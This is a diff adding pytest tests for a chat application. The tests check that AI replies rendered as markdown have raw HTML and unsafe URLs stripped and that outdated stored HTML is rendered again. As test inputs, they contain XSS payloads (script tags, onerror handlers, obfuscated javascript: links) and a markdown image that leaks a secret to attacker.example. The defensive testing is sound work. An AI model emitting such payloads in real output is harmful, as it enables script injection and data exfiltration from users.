@@ -0,0 +1,54 @@
+# HTML сообщений: ответ ИИ рендерится как markdown без сырого HTML, Message.html используется только своей версии
+from types import SimpleNamespace
+
+import pytest
+
+from crud import ChatCRUD
+from utils import MESSAGE_HTML_VERSION, render_markdown, render_message_html, templates
+
+
+@pytest.mark.parametrize("reply, forbidden", [
+    ("<script>alert(1)</script>", "<script"),
+    ("hi <img src=x onerror=alert(1)>", "<img"),
+    ("<div onclick=steal()>\nblock\n</div>", "<div"),
+    ("[click](javascript:alert(1))", "javascript:"),
+    ("[click]( JaVa\tScRiPt:alert(1))", "href"),
+    ("![chart](https://attacker.example/?leak=secret)", "attacker.example"),
+])
+def test_raw_html_and_unsafe_urls_are_neutralised(reply, forbidden):
+    assert forbidden not in render_markdown(reply).lower().replace("\t", "")
+
+
+def test_markdown_still_renders():
+    html = render_markdown("**bold** [docs](https://example.com)\n\n```\n<b>x</b> & y\n```")
+    assert "<strong>bold</strong>" in html
+    assert '<a href="https://example.com">docs</a>' in html
+    assert "&lt;b&gt;x&lt;/b&gt; &amp; y" in html # Код экранирован один раз
+
+
+def test_user_message_is_escaped():
+    assert "&lt;b&gt;" in render_message_html("user", "<b>hi</b>")
+    assert "**" in render_message_html("user", "**not markdown**")
+
+
+async def test_exchange_stores_html_with_current_version(db, conversation):
+    _, ai_message = await ChatCRUD.add_exchange(db, conversation.id, "question", "<script>x</script> **answer**")
+    assert ai_message.html_version == MESSAGE_HTML_VERSION
+    assert "<script" not in ai_message.html and "<strong>answer</strong>" in ai_message.html
+
+
+def render_page(*messages) -> str:
+    return templates.get_template("partials/messages_page.html").render(messages=list(messages), has_more=False, active_conversation_id=1)
+
+
+def test_stored_html_of_current_version_is_reused():
+    message = SimpleNamespace(id=1, role="assistant", content="ignored", html="<p>stored</p>", html_version=MESSAGE_HTML_VERSION)
+    assert "<p>stored</p>" in render_page(message)
+
+
+@pytest.mark.parametrize("version", [None, MESSAGE_HTML_VERSION - 1])
+def test_outdated_html_is_rendered_again_from_content(version):
+    # HTML, сохранённый до экранирования сырого HTML, не отдаём — рендерим content текущим кодом
+    message = SimpleNamespace(id=1, role="assistant", content="<script>x</script> **fresh**", html="<script>x</script>", html_version=version)
+    page = render_page(message)
+    assert "<script" not in page and "<strong>fresh</strong>" in page